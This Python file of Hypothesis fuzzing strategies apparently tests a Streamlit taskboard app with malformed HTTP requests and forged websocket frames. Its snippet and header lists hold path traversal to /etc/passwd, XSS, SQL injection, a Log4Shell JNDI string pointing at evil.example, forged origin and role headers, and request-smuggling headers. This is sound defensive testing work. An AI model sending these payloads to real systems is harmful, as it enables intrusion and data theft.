"""Generators of hostile input: requests of HTTP, and frames of a page."""

from collections.abc import Sequence
from urllib.parse import quote

from hypothesis import strategies as st
from streamlit.proto.BackMsg_pb2 import BackMsg
from streamlit.proto.WidgetStates_pb2 import WidgetState

DOORS = (
    "/",
    "/wallboard",
    "/boards",
    "/healthz",
    "/readyz",
    "/api/version",
    "/api/boards",
    "/api/boards/main",
    "/api/boards/main.csv",
    "/api/boards/main/version",
    "/api/boards/main/export",
    "/api/boards/main/export.gz",
    "/api/boards/main/tasks/t-run",
    "/api/boards/{text}/version",
    "/api/boards/{text}/tasks/{text}",
    "/assets/{text}/0/shared/static/live_signal.js",
    "/assets/{text}/{text}/{text}",
    "/static/{text}",
    "/media/{text}",
    "/component/{text}",
    "/_stcore/health",
    "/_stcore/host-config",
    "/_stcore/metrics",
    "/_stcore/stream",
    "/_stcore/upload_file/{text}/{text}",
    "/_stcore/bidi-components/{text}",
    "/_stcore/agent/{text}",
    "/auth/login",
    "/auth/logout",
    "/oauth2callback",
    "/{text}",
)
METHODS = ("GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PATCH", "TRACE", "CONNECT", "get")
SNIPPETS = (
    "../../etc/passwd",
    "..%2f..%2fdata%2ftaskboard.sqlite",
    "%00",
    "\x1b[2J",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "a" * 5_000,
    "%ff%fe",
    "%u0000",
    "\u202egnp.exe",
    "${jndi:ldap://evil.example}",
    "con.txt",
    "\\..\\..",
    "http://evil.example/",
)
HANDSHAKE = (
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
    "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
)
HEADERS = (
    "Origin: http://{host}",
    "Origin: http://evil.example",
    "Origin: null",
    "Cookie: _streamlit_xsrf={text}; _streamlit_user={text}",
    "X-Xsrftoken: {text}",
    "X-Forwarded-For: {text}",
    "X-Forwarded-Proto: {text}",
    "X-Taskboard-Role: administrator",
    "Content-Length: 5",
    "Content-Length: -1",
    "Content-Length: 99999999999999999999",
    "Transfer-Encoding: chunked",
    "Transfer-Encoding: gzip, chunked",
    "Expect: 100-continue",
    HANDSHAKE,
    "Connection: Upgrade\r\nUpgrade: h2c",
    "Sec-WebSocket-Protocol: streamlit,{text},{text}",
    "Content-Type: multipart/form-data; boundary={text}",
    "Content-Type: application/json",
    "Accept-Encoding: gzip",
    "If-None-Match: {text}",
    "Range: bytes=0-,-5",
    "If-Range: {text}",
    "Authorization: Bearer {text}",
    "{text}: {text}",
    " folded",
)
BODIES = (
    b"hello",
    b"5\r\nhello\r\n0\r\n\r\n",
    b"zz\r\n",
    b"--x\r\n\r\n",
    b"\x00" * 3_000,
    b"{" * 999,
)

# Ids of widgets that no page has, as Streamlit builds them.
NO_WIDGETS = ("$$ID-x-Delete", "$$ID-0-save_board", "$$ID-0-None", "$$WIDGET_ID-a-keep")
_printable = st.text(st.characters(codec="utf-8"), max_size=40) | st.sampled_from(SNIPPETS)
_texts = st.one_of(st.sampled_from(SNIPPETS), st.text(max_size=30), st.just("main"))


@st.composite
def requests(draw: st.DrawFn, host: str) -> bytes:
    """Build a request: mostly one that is nearly right, now and then any bytes."""
    if draw(st.integers(0, 19)) == 0:
        return draw(st.binary(max_size=300))

    def filled(template: str, *, quoted: bool = False) -> str:
        while "{text}" in template:
            text = draw(_texts)
            text = quote(text, safe="/%") if quoted and draw(st.booleans()) else text
            template = template.replace("{text}", text, 1)
        return template.replace("{host}", host)

    path = filled(draw(st.sampled_from(DOORS)), quoted=True)
    query = draw(st.sampled_from(("", "?", f"?board={draw(_texts)}", f"?{draw(_texts)}")))
    named = host if draw(st.integers(0, 4)) else draw(_texts)
    more = draw(st.lists(st.sampled_from(HEADERS), max_size=5))
    lines = [f"{draw(st.sampled_from(METHODS))} {path}{query} HTTP/1.1", f"Host: {named}"]
    head = "\r\n".join([*lines, *map(filled, more), "", ""])
    body = draw(st.one_of(st.just(b""), st.sampled_from(BODIES), st.binary(max_size=200)))
    return head.encode("utf-8", "surrogatepass") + body


@st.composite
def frames(draw: st.DrawFn, widgets: Sequence[str], fragments: Sequence[str]) -> bytes | str:
    """Build a frame: mostly a message of Streamlit's with forged contents.

    Half of what it says of widgets is about those that a page has, in fragments that are there.
    """
    sort = draw(st.integers(0, 9))
    if sort == 0:
        return draw(st.one_of(st.binary(max_size=200), st.text(max_size=50)))
    message = BackMsg()
    if sort == 1:
        name = draw(st.sampled_from([field.name for field in message.DESCRIPTOR.fields]))
        value = getattr(message, name)
        if isinstance(value, bool):
            setattr(message, name, True)
        else:
            value.SetInParent()
        return bytes(message.SerializeToString())
    if sort == 2:
        message.file_urls_request.request_id = draw(_printable)
        message.file_urls_request.file_names.extend(draw(st.lists(_printable, max_size=5)))
        return bytes(message.SerializeToString())
    state = message.rerun_script
    state.query_string = draw(st.one_of(st.just("board=main"), _printable))
    state.page_script_hash = draw(st.one_of(st.just(""), _printable))
    state.page_name = draw(st.one_of(_printable, st.sampled_from(("boards", "../shell"))))
    if draw(st.booleans()):
        state.fragment_id = draw(st.one_of(st.sampled_from(fragments), _printable))
    for _ in range(draw(st.integers(0, 4))):
        widget = state.widget_states.widgets.add()
        unknown = st.one_of(_printable, st.sampled_from(NO_WIDGETS))
        widget.id = draw(st.sampled_from(widgets) if draw(st.booleans()) else unknown)
        _fill(draw, widget)
    return bytes(message.SerializeToString())


def click(button: str) -> bytes:
    """Build the frame of a click on a button."""
    message = BackMsg()
    widget = message.rerun_script.widget_states.widgets.add()
    widget.id, widget.trigger_value = button, True
    return bytes(message.SerializeToString())


def _fill(draw: st.DrawFn, widget: WidgetState) -> None:
    # Half of them are clicks, which do most.
    match draw(st.integers(0, 9)):
        case 1:
            widget.string_value = draw(_printable)
        case 2:
            widget.int_value = draw(st.integers(-(2**63), 2**63 - 1))
        case 3:
            widget.double_value = draw(st.floats())
        case 4:
            widget.json_value = draw(st.one_of(_printable, st.sampled_from(("{}", "[", "1e999"))))
        case 5:
            widget.string_array_value.data.extend(draw(st.lists(_printable, max_size=5)))
        case _:
            widget.trigger_value = True
